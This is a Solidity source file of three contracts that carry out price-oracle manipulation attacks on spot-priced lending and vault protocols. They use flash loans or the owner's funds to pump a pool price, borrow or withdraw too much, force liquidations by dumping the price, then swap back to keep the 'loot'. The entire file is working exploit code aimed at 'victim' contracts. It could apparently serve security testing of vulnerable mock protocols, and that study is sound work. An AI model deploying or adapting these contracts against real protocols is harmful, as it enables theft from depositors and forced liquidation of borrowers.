// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./flash.sol";

/// Pushes the price of collateral up in the pool that a lender looks at, borrows against it, and sells the rest.
contract LenderRaid is Flash {
    SpotLender private immutable _victim;
    uint256 private _wanted;

    constructor(SpotLender victim) {
        _victim = victim;
    }

    /// Takes up to `wanted` out of the victim with a loan of `amount`. Reverts where less than `least` is left.
    function run(Source source, address lender, uint256 amount, uint256 wanted, uint256 least) external onlyOwner {
        _wanted = wanted;
        _borrow(source, lender, _victim.money(), amount);
        _keep(_victim.money(), least);
        _keep(_victim.token(), 0);
    }

    /// The same with money of the owner, who has approved this contract.
    function runWithOwn(uint256 amount, uint256 wanted, uint256 least) external onlyOwner {
        IERC20 money = _victim.money();
        _wanted = wanted;
        money.transferFrom(msg.sender, address(this), amount);
        _use(money, amount, 0);
        _keep(money, amount + least);
        _keep(_victim.token(), 0);
    }

    function _use(IERC20 money, uint256 amount, uint256) internal override {
        (Pair pair, IERC20 token) = (_victim.pair(), _victim.token());
        uint256 bought = _swap(pair, money, amount);
        uint256 there = money.balanceOf(address(_victim));
        uint256 loot = _wanted < there ? _wanted : there;
        uint256 pledged = (bought * loot * 100) / (_victim.worth(bought) * _victim.loanToValue());
        pledged += pledged / 1000 + 1;
        _allow(token, address(_victim), pledged);
        _victim.deposit(pledged);
        _victim.borrow(loot);
        _swap(pair, token, bought - pledged);
    }
}

/// Joins a vault, pushes what it holds up in the pool that the vault looks at, leaves, and sells again.
contract VaultRaid is Flash {
    SpotVault private immutable _victim;
    uint256 private _push;

    constructor(SpotVault victim) {
        _victim = victim;
    }

    /// Of the loan of `amount` goes `push` into the pool. Reverts where less than `least` is left.
    function run(Source source, address lender, uint256 amount, uint256 push, uint256 least) external onlyOwner {
        _push = push;
        _borrow(source, lender, _victim.money(), amount);
        _keep(_victim.money(), least);
    }

    function _use(IERC20 money, uint256 amount, uint256) internal override {
        Pair pair = _victim.pair();
        _allow(money, address(_victim), amount);
        _victim.join(amount - _push);
        uint256 bought = _swap(pair, money, _push);
        uint256 mine = _victim.sharesOf(address(this));
        uint256 value = (_victim.total() * mine) / _victim.shares();
        uint256 there = money.balanceOf(address(_victim));
        _victim.leave(value > there ? (mine * there) / value : mine);
        _swap(pair, _victim.token(), bought);
    }
}

/// Pushes the price of collateral down with tokens of the owner, liquidates, and buys the tokens back.
contract LiquidationRaid is Swapper {
    SpotLender private immutable _victim;

    constructor(SpotLender victim) {
        _victim = victim;
    }

    /// The owner has approved both: `push` tokens to sell, `debts` of money to pay the borrowers' debts with.
    function run(address[] calldata borrowers, uint256 push, uint256 debts) external onlyOwner {
        (IERC20 token, IERC20 money) = (_victim.token(), _victim.money());
        token.transferFrom(msg.sender, address(this), push);
        money.transferFrom(msg.sender, address(this), debts);
        uint256 paid = _swap(_victim.pair(), token, push);
        _allow(money, address(_victim), debts);
        for (uint256 n = 0; n < borrowers.length; n++) _victim.liquidate(borrowers[n]);
        _swap(_victim.pair(), money, paid);
        _keep(token, 0);
        _keep(money, 0);
    }
}
